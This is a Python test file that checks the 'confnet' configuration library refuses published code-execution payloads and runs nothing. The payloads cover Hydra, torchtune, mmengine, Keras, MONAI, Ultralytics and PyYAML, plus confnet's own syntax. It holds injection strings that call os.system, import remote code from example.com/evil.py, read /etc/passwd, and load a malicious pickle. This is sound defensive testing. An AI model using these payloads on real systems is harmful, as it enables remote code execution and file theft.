# ruff: noqa: E501 (payloads as they were published)
"""Published attacks on the configuration files of other tools, in their syntax and in ours: all refused, nothing run.

Python's own audit events tell what a process does: while a payload is loaded, validated and built there may be no
process, no connection, and no file opened but the payload itself.
"""

from __future__ import annotations

import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

import confnet
from confnet.diagnostics import ConfnetError

# What the payloads ask for: a command that leaves a file behind.
COMMAND = "touch marker"

# --- in the syntax of the tool that they attack -----------------------------------------------------------------------

THEIRS: dict[str, tuple[str, str]] = {
    # Hydra, and everything that instantiates `_target_` (NeMo: CVE-2025-23304).
    "hydra os.system": ("_target_: os.system\n_args_: ['touch marker']\n", "unknown-key"),
    "hydra exec": ("model:\n  _target_: builtins.exec\n  _args_: ['open(\"marker\", \"w\")']\n", "unknown-key"),
    "hydra around its block list": ("_target_: logging.os.system\n_args_: ['touch marker']\n", "unknown-key"),
    "hydra popen": ("_target_: subprocess.Popen\nargs: [touch, marker]\n", "unknown-key"),
    "hydra get_method": ("_target_: hydra.utils.get_method\npath: os.system\n", "unknown-key"),
    "hydra partial": ("_target_: os.system\n_partial_: true\n", "unknown-key"),
    "omegaconf resolver": ("confnet: 1\nLinear: ['${oc.env:HOME}', 3]\n", "misplaced-dollar"),
    # torchtune GHSA-gw63-xxf2-xxcg: `_component_` is imported and called, by `tune validate` too.
    "torchtune component": ("model:\n  _component_: os.system\n  command: touch marker\n", "unknown-key"),
    "torchtune load": ("checkpointer: {_component_: torch.load, f: evil.pt, weights_only: false}\n", "unknown-key"),
    # mmengine: configuration is Python, `custom_imports` imports, `_base_` reads other files and addresses.
    "mmengine python": ("import os\nmodel = dict(type=os.system('touch marker'))\n", "invalid-type"),
    "mmengine custom imports": ("custom_imports: {imports: [antigravity], allow_failed_imports: false}\n", "unknown-key"),
    "mmengine base": ("_base_: ['https://example.com/evil.py']\nmodel: {type: ResNet}\n", "unknown-key"),
    "mmengine type": ("model: {type: os.system, command: touch marker}\n", "unknown-key"),
    "mmengine template": ("{{ __import__('os').system('touch marker') }}: 1\n", "invalid-key"),
    # Keras: CVE-2024-3660 (Lambda), CVE-2025-1550 (any function of any module), CVE-2025-9906 (a file that allows
    # itself).
    "keras lambda": (
        '{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAA="}}}}',
        "unknown-key",
    ),
    "keras function": (
        '{"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}', "unknown-key",
    ),
    "keras popen": (
        '{"module": "builtins", "class_name": "list", "config": {"func": {"module": "subprocess", "class_name":'
        ' "Popen"}}}',
        "unknown-key",
    ),
    "keras unsafe": (
        '{"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"}',
        "unknown-key",
    ),
    "keras get_file": (
        '{"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://example.com/evil"}}',
        "unknown-key",
    ),
    # MONAI GHSA-873f-pvrv-4x83: `$` values are evaluated as Python, `_target_` is imported.
    "monai expression": ("a: $__import__('os').system('touch marker')\n", "unknown-key"),
    "monai imports": ("imports: ['$import os']\ninitialize: [\"$os.system('touch marker')\"]\n", "unknown-key"),
    "monai target": ("_target_: $__import__('os').system\n_args_: [touch marker]\n", "unknown-key"),
    "monai requires": ("network: {_target_: Linear, _requires_: [\"$open('marker', 'w')\"]}\n", "unknown-key"),
    # Ultralytics: `eval` of the activation, and of whatever an argument's text is.
    "yolo activation": (
        "nc: 80\nactivation: __import__('os').system('touch marker')\nbackbone: [[-1, 1, Conv, [64, 3, 2]]]\nhead: []\n",
        "unknown-key",
    ),
    "yolo module": ("backbone:\n- [-1, 1, \"__import__('os').system('touch marker')\", []]\nhead: []\n", "unknown-key"),
    "yolo argument": ("backbone: [[-1, 1, Conv, [\"eval('open(1)')\", 3, 2]]]\nhead: []\n", "unknown-key"),
    # jsonargparse and LightningCLI.
    "lightning class path": (
        "model: {class_path: subprocess.Popen, init_args: {args: [touch, marker]}}\n", "unknown-key",
    ),
    # PyYAML itself.
    "yaml apply": ("!!python/object/apply:os.system ['touch marker']\n", "tag"),
    "yaml new": ("a: !!python/object/new:subprocess.Popen [[touch, marker]]\n", "tag"),
    "yaml module": ("a: !!python/module:antigravity ''\n", "tag"),
    "yaml name": ("a: !!python/name:os.system ''\n", "tag"),
    "yaml state": (
        "!!python/object/new:type\nargs: [z, !!python/tuple [], {extend: !!python/name:exec }]\nlistitems: x\n", "tag",
    ),
}  # fmt: skip

# --- the same in the syntax of confnet --------------------------------------------------------------------------------

H = "confnet: 1\n"
OURS: dict[str, tuple[str, str]] = {
    "layer by path": (H + "os.system: touch marker\n", "unknown-key"),
    "layer by path of torch": (H + "Sequential: [{torch.hub.load: [a, b]}]\n", "not-a-module"),
    "layer os": (H + "Sequential: [{Os: touch marker}]\n", "unknown-layer"),
    "layer Popen": (H + "Sequential: [{Popen: [[touch, marker]]}]\n", "unknown-layer"),
    "layer by an arg": (H + "args: {f: {type: layer, default: os.system}}\n$f: touch marker\n", "unknown-layer"),
    "layer by a text": (H + "let: {f: subprocess.Popen}\nSequential: [{$f: [[touch, marker]]}]\n", "unknown-layer"),
    "layer Module": (H + "Sequential: [{Module: {}}]\n", "not-a-layer"),
    "layer DataParallel": (H + "DataParallel: {module: ReLU}\n", "not-a-layer"),
    "target": (H + "Sequential: [{_target_: os.system, _args_: [touch marker]}]\n", "not-a-module"),
    "target inside an argument": (H + "Linear: {in_features: {_target_: os.system}, out_features: 1}\n", "invalid-type"),
    "import": (H + "imports: [os]\nReLU:\n", "unknown-key"),
    "plugins": (H + "plugins: [evil]\nReLU:\n", "unknown-key"),
    "policy": (H + "allow: ['*']\nsettings: {unsafe: true}\nReLU:\n", "unknown-key"),
    "limits": (H + "limits: {modules: 1000000000}\nReLU:\n", "unknown-key"),
    "expression": (H + "let: {a: \"$(__import__('os').system('touch marker'))\"}\nReLU:\n", "not-allowed-in-expression"),
    "expression of a class": (H + 'let: {a: "$(().__class__.__bases__[0])"}\nReLU:\n', "not-allowed-in-expression"),
    "expression eval": (H + "let: {a: \"$(eval('1'))\"}\nReLU:\n", "unknown-function"),
    "expression open": (H + "let: {a: \"$(open('marker', 'w'))\"}\nReLU:\n", "unknown-function"),
    "expression lambda": (H + 'let: {a: "$((lambda: 1)())"}\nReLU:\n', "not-allowed-in-expression"),
    "expression format": (H + "let: {a: \"$('{0.__class__}'.format(1))\"}\nReLU:\n", "not-allowed-in-expression"),
    "shape": (H + 'parameters: {p: {shape: ["__import__(\'os\')"]}}\nforward: return p\n', "not-allowed-in-expression"),
    "condition": (H + "Sequential: [{when: \"$(exec('1'))\", ReLU: }]\n", "unknown-function"),
    "require": (H + "require: {\"$(open('marker', 'w'))\": no}\nReLU:\n", "unknown-function"),
    "forward import": (H + "forward: |\n  import os\n  return x\n", "not-allowed-in-code"),
    "forward dunder": (H + "forward: return __import__('os').system('touch marker')\n", "not-allowed-in-code"),
    "forward hub": (H + "forward: return torch.hub.load('a', 'b')(x)\n", "unknown-function"),
    "forward load": (H + "forward: return torch.load('evil.pt', weights_only=False)\n", "unknown-function"),
    "forward save": (H + "forward: return torch.save(x, 'marker')\n", "unknown-function"),
    "forward importlib": (H + "forward: return F.importlib.import_module('os').system('a')\n", "unknown-function"),
    "forward os": (H + "forward: return torch.nn.parallel.distributed.os.system('a')\n", "unknown-function"),
    "forward cpp": (H + "forward: return torch.utils.cpp_extension.load('a', [])\n", "unknown-function"),
    "forward tofile": (H + "forward: return x.numpy().tofile('marker')\n", "unknown-method"),
    "forward globals": (H + "forward: return self.forward.__globals__\n", "not-allowed-in-code"),
    "forward getattr": (H + "forward: return getattr(torch, 'load')('evil.pt')\n", "undefined-name"),
    "forward f-string": (H + "forward: \"return f'{x.__class__}'\"\n", "not-allowed-in-code"),
    "buffer": (H + "buffers: {b: {value: \"torch.load('evil.pt')\"}}\nforward: return b\n", "unknown-function"),
    "buffer from a file": (
        H + "buffers: {b: {value: \"torch.from_file('/etc/passwd', size=9)\"}}\nforward: return b\n", "unknown-function",
    ),
    "initialiser": (H + "Linear: [1, 1]\ninit: {weight: os.system}\n", "unknown-initializer"),
    "initialiser code": (H + "Linear: [1, 1]\ninit: {weight: {value: \"open('marker', 'w')\"}}\n", "undefined-name"),
    "parametrization": (H + "Linear: [1, 1]\nparametrize: {weight: os.system}\n", "unknown-parametrization"),
    "hook": (H + "ReLU:\nhooks: [{kind: forward, call: {os.system: touch marker}}]\n", "unknown-hook"),
    "hook code": (H + "ReLU:\nhooks: [{kind: forward, do: return open('marker')}]\n", "undefined-name"),
    "rule call": (H + "ReLU:\napply: [{call: {os.system: touch marker}}]\n", "unknown-function"),
    "rule setting": (H + "ReLU:\napply: [{set: {forward: os.system}}]\n", "not-settable"),
    "rule class": (H + "ReLU:\napply: [{set: {__class__: os.system}}]\n", "not-settable"),
    "include": (H + "include: [/etc/passwd]\nReLU:\n", "include-not-relative"),
    "include of an address": (H + "include: ['https://example.com/evil.yaml']\nReLU:\n", "include-not-relative"),
    "include of Python": (H + "include: [evil.py]\nReLU:\n", "unreadable-file"),
    "dtype": (H + "Linear: {in_features: 1, out_features: 1, dtype: os.system}\n", "invalid-value"),
    "device": (H + "Linear: {in_features: 1, out_features: 1, device: 'cuda:0'}\n", "unknown-argument"),
    "activation by name": (
        H + "TransformerEncoderLayer: {d_model: 4, nhead: 1, activation: __import__('os')}\n", "invalid-value",
    ),
}  # fmt: skip

PAYLOADS = {**{f"theirs: {k}": v for k, v in THEIRS.items()}, **{f"ours: {k}": v for k, v in OURS.items()}}

# --- what the process does meanwhile ----------------------------------------------------------------------------------

WATCHED = ("os.system", "os.exec", "os.fork", "os.posix_spawn", "os.spawn", "os.remove", "os.rename", "os.mkdir")
PREFIXES = ("subprocess.", "socket.", "urllib.", "ctypes.", "pickle.", "webbrowser.", "shutil.")
_seen: list[str] | None = None


def _note(event: str, arguments: tuple[object, ...]) -> None:
    if _seen is None:
        return
    if event in WATCHED or event.startswith(PREFIXES):
        _seen.append(f"{event} {arguments}")
    elif event == "open" and not str(arguments[0]).endswith((".py", ".pyc", ".json", "main.yaml")):
        _seen.append(f"open {arguments[0]}")
    elif event == "import" and str(arguments[0]).partition(".")[0] in ("antigravity", "evil", "subprocess"):
        _seen.append(f"import {arguments[0]}")


sys.addaudithook(_note)


@contextmanager
def watched() -> Iterator[list[str]]:
    """What the process does to the world outside of it."""
    global _seen
    seen: list[str] = []
    _seen = seen
    try:
        yield seen
    finally:
        _seen = None


@pytest.mark.parametrize("name", PAYLOADS)
def test_payload_is_refused_and_nothing_runs(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    text, code = PAYLOADS[name]
    monkeypatch.chdir(tmp_path)
    Path("main.yaml").write_text(text, encoding="utf-8")
    Path("evil.pt").write_bytes(b"cos\nsystem\n(S'touch marker'\ntR.")
    for good in (True, False):  # whatever is loaded once is loaded now
        str(confnet.validate({"confnet": 1, "Linear" if good else "Lineal": [1, 1]}))
    with watched() as seen:
        report = confnet.validate("main.yaml")
        with pytest.raises(ConfnetError):
            confnet.build("main.yaml")
    assert code in {d.code for d in report.diagnostics}, report
    assert not report.ok
    assert seen == []
    assert not Path("marker").exists()


def test_the_watch_sees_harm(tmp_path: Path) -> None:
    import os
    import subprocess

    with watched() as seen:
        os.system("true")
        subprocess.run(["true"], check=True)
        (tmp_path / "marker").write_text("x")
    assert any(event.startswith("os.system") for event in seen)
    assert any(event.startswith("subprocess.Popen") for event in seen)
    assert any(event.startswith("open") and "marker" in event for event in seen)
